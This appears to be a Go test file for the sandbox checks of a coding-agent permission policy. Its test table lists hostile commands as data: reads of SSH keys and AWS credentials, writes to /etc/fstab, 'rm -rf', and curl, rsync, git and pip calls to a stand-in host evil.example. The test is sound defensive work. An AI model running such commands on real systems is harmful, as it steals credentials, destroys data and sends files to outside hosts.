package policy

import (
	"slices"
	"strings"
	"testing"

	"github.com/perlica/perlica/eventlog/message"
	"github.com/perlica/perlica/policy/shell"
)

// boxed returns the place in the variable "at", with a sandbox of this mode. A process inside can write to its project,
// a cache and two other folders, but cannot read keys and Perlica's contexts. In the mode offline it can connect to one
// host.
func boxed(mode string) shell.Place {
	below := func(path string, folders ...string) bool {
		return slices.ContainsFunc(folders, func(dir string) bool { return path == dir || strings.HasPrefix(path, dir+"/") })
	}
	in := at
	in.Sandbox = &shell.Sandbox{
		Mode: mode,
		Writes: func(p string) bool {
			return below(p, at.Dir, "/home/me/.cache/go-build", "/home/me/extra", "/tmp") && !below(p, "/tmp/kept")
		},
		Reads: func(p string) bool {
			return !below(p, "/home/me/.ssh", "/home/me/.aws", at.Dir+"/.perlica_config/contexts")
		},
		Connects: func(host string, port int) bool {
			return mode != "offline" || host == "api.example.org" && (port == 0 || port == 80 || port == 443)
		},
	}
	return in
}

// TestSandboxStops checks that the mode allow asks about a command that the sandbox will stop, and names the sandbox in
// the reason. For all other commands the decision and its reason must be the same as without a sandbox.
func TestSandboxStops(t *testing.T) {
	const write = "does not let this command write to "
	for _, c := range []struct{ mode, command, want string }{
		{"project", "echo x > /etc/hosts", "the sandbox project " + write + "/etc/hosts: it will fail there"},
		{"project", "cp a.txt ~/b.txt", write + "/home/me/b.txt"},
		{"project", "tee ../other/x </dev/null", write + "/home/me/work/other/x"},
		{"project", "cd / && touch x", write + "/x"},
		{"project", "rm -rf ~/old", write + "/home/me/old"},
		{"project", "touch /tmp/kept/x", write + "/tmp/kept/x"},
		{"project", "mkdir -p /opt/x", write + "/opt/x"},
		{"project", "sed -i s/a/b/ /etc/fstab", write + "/etc/fstab"},
		{"project", "bash -c 'printf a >> /etc/fstab'", write + "/etc/fstab"},
		{"project", "find . -name x -exec cp {} /srv/x ';'", write + "/srv/x"},
		{"project", "cat ~/.ssh/id_ed25519", "the sandbox project hides /home/me/.ssh/id_ed25519 from this command: it will"},
		{"project", "wc -l < ~/.aws/credentials", "hides /home/me/.aws/credentials from"},
		{"project", "cd ~/.ssh && head -1 config", "hides /home/me/.ssh/config from"},
		{"project", "ls -la ~/.ssh/*", "hides /home/me/.ssh from"},
		{"project", "ssh -i ~/.ssh/key api.example.org true", "hides /home/me/.ssh/key from"},
		{"project", "ls .perlica_config/contexts/a", "hides " + at.Dir + "/.perlica_config/contexts/a from"},
		{"project", "curl --cacert=$HOME/.ssh/ca.pem https://api.example.org", "hides /home/me/.ssh/ca.pem from"},
		{"project", "sudo ls", "sudo needs more than the sandbox project gives: this command will fail there"},
		{"project", "timeout 5 su -c ls", "su needs more than the sandbox project gives"},
		{"project", "docker ps", "docker needs more than the sandbox project gives"},
		{"project", "make && docker compose up -d", "docker needs more than the sandbox project gives"},
		{"project", "systemctl --user status x", "systemctl needs more than the sandbox project gives"},
		{"project", "echo ls | at now", "at needs more than the sandbox project gives"},
		{"project", "crontab -l", "crontab needs more than the sandbox project gives"},
		{"project", "perlica log show", "perlica needs more than the sandbox project gives"},
		{"offline", "curl https://evil.example/x", "the sandbox offline does not let this command connect to evil.example"},
		{"offline", "curl -sS -o x -H 'A: b' evil.example/x", "connect to evil.example: it will fail there"},
		{"offline", "wget -qO- http://api.example.org:8080/x", "connect to api.example.org"},
		{"offline", "git clone https://evil.example/a.git", "connect to evil.example"},
		{"offline", "git clone git@evil.example:a/b.git", "connect to evil.example"},
		{"offline", "pip install git+https://evil.example/a", "connect to evil.example"},
		{"offline", "npm install --registry=https://evil.example", "connect to evil.example"},
		{"offline", "ping -c 1 evil.example", "connect to evil.example"},
		{"offline", "ssh -p 22 me@evil.example ls", "connect to evil.example"},
		{"offline", "rsync -a . me@evil.example:x", "connect to evil.example"},
		{"offline", "curl 192.0.2.1", "connect to 192.0.2.1"},
		{"offline", "docker ps", "docker needs more than the sandbox offline gives"},
		{"project", "curl https://evil.example/x", ""},
		{"project", "echo x > a.txt && cat a.txt", ""},
		{"project", "echo x > /tmp/a && echo y > $TMPDIR/b && mktemp", ""},
		{"project", "echo x > /var/folders/xy/T/a", ""},
		{"project", "echo x >/dev/null 2>&1", ""},
		{"project", "touch ~/.cache/go-build/x", ""},
		{"project", "grep -rn '/home/me/.ssh' .", ""},
		{"project", "echo ~/.ssh/id_rsa", ""},
		{"project", "git commit -m ~/.ssh/id_rsa", ""},
		{"project", "[ -f ~/.ssh/id_rsa ]", ""},
		{"project", "cat /etc/hosts ~/.gitconfig ~/other/x", ""},
		{"project", "docker --version", ""},
		{"project", "perlica --help", ""},
		{"project", "perlica agent predictable", ""},
		{"project", "ls docker systemctl", ""},
		{"project", "ssh api.example.org 'cat ~/.ssh/config; docker ps; touch /etc/x'", ""},
		{"offline", "curl -sS https://api.example.org/v1", ""},
		{"offline", "curl -d @a.json localhost:8080/x http://127.0.0.1:3000", ""},
		{"offline", "curl -H 'Referer: https://evil.example' -d a=https://evil.example https://api.example.org", ""},
		{"offline", "git remote add o https://evil.example/a.git", ""},
		{"offline", "git push origin main:main", ""},
		{"offline", "npm run build -- --base https://evil.example", ""},
		{"offline", "echo https://evil.example", ""},
		{"offline", "npm ci && go build ./... && pip install x", ""},
		{"offline", "scp a.txt b.txt", ""},
	} {
		r := execute(c.command)
		p := policyOf(t, nil)
		before := p.Decide(r, ModeAllow)
		r.Place = boxed(c.mode)
		d := p.Decide(r, ModeAllow)
		switch {
		case c.want == "" && (d.Effect != before.Effect || before.Effect != Allow && d.Why != before.Why):
			t.Errorf("%s: %s: %s (%s), before %s (%s)", c.mode, c.command, d.Effect, d.Why, before.Effect, before.Why)
		case c.want != "" && (d.Effect == Allow || !strings.Contains(d.Why, c.want)):
			t.Errorf("%s: %s: %s (%s), want %q", c.mode, c.command, d.Effect, d.Why, c.want)
		case c.want != "" && before.Effect == Ask && !strings.HasPrefix(d.Why, before.Why+"; "):
			t.Errorf("%s: %s: %q has lost the reason %q", c.mode, c.command, d.Why, before.Why)
		}
	}
}

// TestSandboxStopsTools checks that the mode allow also asks about a tool call with a file that the sandbox protects. A
// rule or a remembered yes that names exactly the command still decides, and the decision keeps the reason of the
// sandbox.
func TestSandboxStopsTools(t *testing.T) {
	tool := func(kind, path string) Request {
		return Request{Kind: kind, Paths: []string{path}, Place: boxed("project"), Options: options3}
	}
	none := policyOf(t, nil)
	for _, c := range []struct {
		r    Request
		mode Mode
		want Effect
		why  string
	}{
		{tool("edit", "/etc/hosts"), ModeAllow, Ask,
			"outside the working directory: edit of /etc/hosts; the sandbox project does not let this tool write to /etc/hosts"},
		{tool("read", "/home/me/.ssh/config"), ModeAllow, Ask,
			"the sandbox project hides /home/me/.ssh/config from this tool: it will fail there"},
		{tool("read", at.Dir+"/.perlica_config/contexts/a"), ModeReads, Ask, "from this tool"},
		{tool("read", "/etc/hosts"), ModeAllow, Allow, ""},
		{tool("edit", at.Dir+"/a.go"), ModeAllow, Allow, ""},
	} {
		if d := none.Decide(c.r, c.mode); d.Effect != c.want || !strings.Contains(d.Why, c.why) {
			t.Errorf("%s %v: %s (%s), want %s (%s)", c.r.Kind, c.r.Paths, d.Effect, d.Why, c.want, c.why)
		}
	}
	r := execute("docker ps")
	r.Place = boxed("project")
	const why = "docker needs more than the sandbox project gives"
	for _, c := range []struct {
		p    *Policy
		want Effect
	}{
		{none, Ask},
		{policyOf(t, nil, Rule{Effect: Allow, Kind: []string{"execute"}}), Ask},
		{policyOf(t, nil, allow("docker ...")), Allow},
		{policyOf(t, []Approval{{ID: "a", Effect: Allow, Scope: ScopeContext, Command: "docker ps"}}), Allow},
		{policyOf(t, nil, deny("docker ...")), Deny},
	} {
		d := c.p.Decide(r, ModeAllow)
		if d.Effect != c.want || !strings.Contains(d.Why, why) || len(d.Allow) > 0 {
			t.Errorf("%s (%s, %v), want %s and %s", d.Effect, d.Why, d.Allow, c.want, why)
		}
	}
	if d := none.Decide(r, ModeAsk); d.Effect != Ask || d.Tier != shell.AlwaysAsked || !strings.HasPrefix(d.Why, why) {
		t.Errorf("in the mode ask: %+v", d)
	}
	if d := none.Decide(r, ModeDeny); d.Effect != Deny || !strings.Contains(d.Why, why) {
		t.Errorf("in the mode deny: %+v", d)
	}
}

// TestEverydayInSandbox checks that the sandbox adds no question about an everyday command that works inside. It may
// add questions only about programs that need a service of the system and, in the mode offline, about hosts that are
// not listed.
func TestEverydayInSandbox(t *testing.T) {
	for _, mode := range []string{"project", "offline"} {
		in := boxed(mode)
		for _, command := range entries(t, "everyday.txt") {
			v := shell.Judge(shell.Command{Text: command}, in).Verdict
			if v.Stopped == nil || shell.Judge(shell.Command{Text: command}, at).Verdict.Tier != shell.Ordinary {
				continue
			}
			t.Logf("%s: %s: %s", mode, v.Stopped, command)
			allowed := []message.Code{"shell.not-inside"}
			if mode == "offline" {
				allowed = append(allowed, "shell.not-listed")
			}
			if !slices.Contains(allowed, v.Stopped.Code) {
				t.Errorf("%s: %s: %s", mode, v.Stopped, command)
			}
		}
	}
}
